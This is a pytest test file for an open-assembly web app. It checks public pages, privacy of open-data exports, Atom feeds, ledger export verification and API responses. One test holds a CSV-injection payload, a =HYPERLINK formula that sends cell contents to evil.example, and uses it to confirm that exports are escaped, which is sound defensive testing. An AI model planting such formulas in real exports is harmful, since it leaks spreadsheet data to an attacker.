"""The public record: open to all, private data absent, feeds and exports well-formed."""

from __future__ import annotations

import csv
import io
import json
from xml.etree import ElementTree

import pytest


@pytest.mark.parametrize(
    "path",
    [
        "/o/{org}/",
        "/o/{org}/constitution/",
        "/o/{org}/ledger/",
        "/o/{org}/open-data/",
        "/o/{org}/bodies/coordinating-group/",
        "/o/{org}/bodies/coordinating-group/seats.svg",
    ],
)
def test_public_pages_need_no_login(client, organisation, path):
    assert client.get(path.format(org=organisation.slug)).status_code == 200


def test_open_data_has_seat_holders_but_no_personal_data(client, organisation, secretary, member):
    data = json.loads(client.get(f"/o/{organisation.slug}/open-data.json").content)
    assert data["format"] == "openassembly-open-data" and data["version"] == 4
    holders = [row["holder"] for row in data["seat_holdings"]]
    assert "Sec Retary" in holders
    text = json.dumps(data)
    assert secretary.email not in text and member.name not in text and member.email not in text
    rows = list(
        csv.DictReader(
            io.StringIO(client.get(f"/o/{organisation.slug}/open-data.csv").content.decode())
        )
    )
    assert rows[0]["holder"] == "Sec Retary"


def test_atom_feeds_parse_and_list_checkpoints(client, organisation):
    from openassembly.core.ledger import seal_checkpoint

    checkpoint = seal_checkpoint(organisation)
    ns = {"a": "http://www.w3.org/2005/Atom"}
    body = client.get(f"/o/{organisation.slug}/feeds/checkpoints.atom").content
    titles = [e.text for e in ElementTree.fromstring(body).findall("a:entry/a:title", ns)]
    assert any(checkpoint.hash[:16] in t for t in titles)
    body = client.get(f"/o/{organisation.slug}/feeds/record.atom").content
    assert ElementTree.fromstring(body).findall("a:entry", ns)


def test_ledger_export_download_verifies(client, organisation, tmp_path):
    from openassembly import ledger as pure
    from openassembly.core.ledger import seal_checkpoint

    seal_checkpoint(organisation)
    path = tmp_path / "l.jsonl"
    path.write_bytes(client.get(f"/o/{organisation.slug}/ledger/export.jsonl").content)
    assert pure.verify_export(path).ok


def test_api_lists_bodies_and_pings(client, organisation, secretary):
    assert client.get("/api/ping").json() == {"ok": True}
    bodies = client.get(f"/api/o/{organisation.slug}/bodies").json()
    organising = next(b for b in bodies if b["key"] == "organising-group")
    secretary_seat = next(s for s in organising["seats"] if s["seat"] == "secretary")
    assert secretary_seat["holders"] == ["Sec Retary"]


def test_unknown_organisation_is_404(client, db):
    assert client.get("/o/nobody/").status_code == 404


def test_ledger_page_query_count_is_pinned(client, organisation, django_assert_max_num_queries):
    with django_assert_max_num_queries(8):
        assert client.get(f"/o/{organisation.slug}/ledger/").status_code == 200


def test_open_data_csv_cells_cannot_run_as_spreadsheet_formulas(client, organisation, secretary):
    from openassembly.members.models import Member

    hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"
    Member.objects.filter(organisation=organisation, name="Sec Retary").update(name=hostile)
    body = client.get(f"/o/{organisation.slug}/open-data.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows[0]["holder"] == "'" + hostile
    assert not [v for r in rows for v in r.values() if v and v[0] in "=+-@\t\r"]
